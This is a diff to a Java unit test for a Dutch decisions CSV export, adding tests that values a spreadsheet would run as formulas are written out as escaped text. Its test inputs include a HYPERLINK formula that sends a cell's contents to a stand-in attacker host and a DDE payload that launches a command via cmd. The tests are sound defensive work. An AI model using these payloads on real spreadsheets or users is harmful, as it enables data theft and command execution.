@@ -4,8 +4,10 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.Arrays;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
-/** CSV as RFC 4180 writes it. */
+/** CSV as RFC 4180 writes it, safe to open in a spreadsheet program. */
 class BesluitenExportTest {
 
     @Test
@@ -15,6 +17,23 @@ class BesluitenExportTest {
         assertThat(BesluitenExport.csvVeld("zie \"bijlage\"")).isEqualTo("\"zie \"\"bijlage\"\"\"");
         assertThat(BesluitenExport.csvVeld("regel 1\nregel 2")).isEqualTo("\"regel 1\nregel 2\"");
         assertThat(BesluitenExport.csvVeld(null)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"=HYPERLINK(\"https://aanvaller.example/?d=\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"})
+    void een_veld_dat_een_rekenblad_als_formule_zou_uitvoeren_wordt_als_tekst_geschreven(String waarde) {
+        String veld = BesluitenExport.csvVeld(waarde);
+
+        assertThat(veld).startsWith("\"'").endsWith("\"");
+        assertThat(veld.substring(2, veld.length() - 1).replace("\"\"", "\"")).isEqualTo(waarde);
+    }
+
+    @Test
+    void een_formule_in_een_besluit_komt_in_de_export_als_tekst() {
+        String regel = BesluitenExport.csvRegel(Arrays.asList("7", "=1+1", "gewone tekst", "a=b", "-"));
+
+        assertThat(regel).isEqualTo("7,\"'=1+1\",gewone tekst,a=b,\"'-\"\r\n");
     }
 
     @Test
